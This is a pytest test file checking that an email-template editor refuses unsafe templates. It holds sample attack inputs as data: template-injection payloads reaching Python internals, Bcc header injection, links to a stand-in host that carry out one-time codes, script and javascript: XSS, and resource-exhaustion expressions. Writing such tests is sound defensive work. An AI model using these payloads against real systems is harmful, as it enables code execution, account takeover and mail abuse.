"""What a template may not say, whoever wrote it: each is refused, with the line."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from core.testing import Databases, Instance, Person

SITE = "https://jobs.example.org"
FINE = {"subject": "Hi {{ name }}", "text": "Hello {{ name }}", "html": "<p>Hello {{ name }}</p>"}


@pytest.fixture(scope="module")
def admin(databases: Databases, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Person]:
    """One for all tests here: what is refused leaves nothing behind."""
    made = Instance(tmp_path_factory.mktemp("language"), databases).plugins(mail={"site_url": SITE})
    yield made.person("root@example.com", role="admin")
    made.close()


def refused(admin: Person, part: str, text: str, template: str = "welcome") -> str:
    answer = admin.put(f"/admin/templates/{template}", FINE | {part: text})
    assert answer.status_code == 422, answer.text
    assert answer.mimetype == "application/problem+json"
    assert (admin.get(f"/admin/templates/{template}").json or {})["overridden"] == []
    (said,) = (answer.json or {})["errors"][part]
    return str(said)


@pytest.mark.parametrize(
    ("text", "line", "reason"),
    [
        ("a\nb\n{{ name", 3, "unexpected"),
        ("{% if name %}", 1, "end of template"),
        ("\n{{ nmae }}", 2, "'nmae'"),
        ("{{ self }}", 1, "'self'"),
        ("{{ config }}", 1, "'config'"),
        ("{{ name.__class__ }}", 1, "getattr"),
        ("{{ name['__class__'] }}", 1, "getitem"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", 1, "is not allowed"),
        ("{{ name|attr('__class__') }}", 1, "attr"),
        ("{{ name.format(name) }}", 1, "call"),
        ("{{ range(9) }}", 1, "call"),
        ("{{ lipsum() }}", 1, "call"),
        ("{{ cycler }}", 1, "'cycler'"),
        ("\n\n{% for a in name %}{% endfor %}", 3, "for"),
        ("{{ 'a' * 1000000000 }}", 1, "mul"),
        ("{{ 9 ** 9 ** 9 }}", 1, "pow"),
        ("{{ name ~ name }}", 1, "concat"),
        ("{{ name|center(1000000000) }}", 1, "center"),
        ("{{ name|safe }}", 1, "safe"),
        ("{% set a = name %}", 1, "assign"),
        ("{% macro a() %}{% endmacro %}", 1, "macro"),
        ("{% include 'layout.html' %}", 1, "include"),
        ("{% extends 'layout.html' %}", 1, "extends"),
        ("{% import 'os' as os %}", 1, "import"),
        ("{% filter upper %}{{ name }}{% endfilter %}", 1, "filterblock"),
        ("{{ " + "9" * 5000 + " }}", 1, "cannot be read"),
        ("{{ " + "(" * 20000 + "name" + ")" * 20000 + " }}", 1, "deeply"),
        ("{% if name %}" * 200 + "{% endif %}" * 200, 1, "deeply"),
        ("{{ '\\ud800' }}", None, "UnicodeEncodeError"),
        ("{{ name|truncate('x') }}", None, "TypeError"),
        ("{{ name > 1 }}", None, "TypeError"),
    ],
)
def test_only_variables_conditions_and_filters(
    admin: Person, text: str, line: int | None, reason: str
) -> None:
    for part in ("text", "html"):
        said = refused(admin, part, text)
        assert reason.lower() in said.lower()
        assert line is None or said.startswith(f"line {line}: ")


@pytest.mark.parametrize(
    "subject", ["two\nlines", "a\r\nBcc: eve@example.com", "{{ 'a\\r\\nBcc: x' }}", "{{ '\\u2028' }}", "  "]
)
def test_a_subject_is_one_line(admin: Person, subject: str) -> None:
    assert "one line" in refused(admin, "subject", subject)


@pytest.mark.parametrize(
    ("part", "text"),
    [
        ("html", '<a href="https://evil.example/{{ code }}">go</a>'),
        ("html", '<img src="https://evil.example/{{ code }}.png">'),
        ("html", '<a href="//evil.example/">go</a>'),
        ("html", '<a href="/relative">go</a>'),
        ("html", '<a href="https://jobs.example.org@evil.example/">go</a>'),
        ("html", '<a href="https://jobs.example.org.evil.example/">go</a>'),
        ("html", '<a href="https://jobs.example.org:444/">go</a>'),
        ("html", '<a href="http://jobs.example.org/">go</a>'),
        ("html", '<a href="https:\\\\evil.example/">go</a>'),
        ("html", '<a href="mailto:eve@example.com?body={{ code }}">go</a>'),
        ("html", "<p>https://evil.example/{{ code }}</p>"),
        ("html", "<p>https&#58;//evil.example/{{ code }}</p>"),
        ("html", "<p>www.evil.example</p>"),
        ("text", "https://evil.example/{{ code }}"),
        ("text", "see www.evil.example for {{ code }}"),
        ("text", "{{ 'ht' }}{{ 'tps://evil.example/' }}{{ code }}"),
        ("subject", "https://evil.example/{{ code }}"),
    ],
)
def test_a_mail_leads_to_this_instance_and_nowhere_else(admin: Person, part: str, text: str) -> None:
    assert "elsewhere" in refused(admin, part, text, template="otp")


def test_what_html_may_not_hold_is_left_out(admin: Person) -> None:
    html = (
        "<script>alert(1)</script><p onclick='x()' style='color:red;position:fixed'>Hi</p><style>p{}</style>"
        "<p style='background:url(https://evil.example/{{ code }})'>there</p><iframe src='x'></iframe>"
        f"<form action='https://evil.example'><input></form><a href='{SITE}/x'>here</a>"
        "<a href='javascript:alert(1)'>not there</a>"
    )
    answer = admin.post("/admin/templates/otp/preview", {"html": html})
    shown = (answer.json or {})["html"]
    assert 'style="color:red">Hi' in shown.replace("color: red", "color:red").replace('red;"', 'red"')
    assert f'<a href="{SITE}/x">here</a>' in shown
    for gone in ("script", "alert", "onclick", "position", "evil.example", "iframe", "form", "input"):
        assert gone not in shown


def test_values_are_text_in_html(admin: Person) -> None:
    html = "<p>{{ name }}{{ '<b>' }}</p>"
    shown = (admin.post("/admin/templates/welcome/preview", {"html": html}).json or {})["html"]
    assert "&lt;b&gt;" in shown
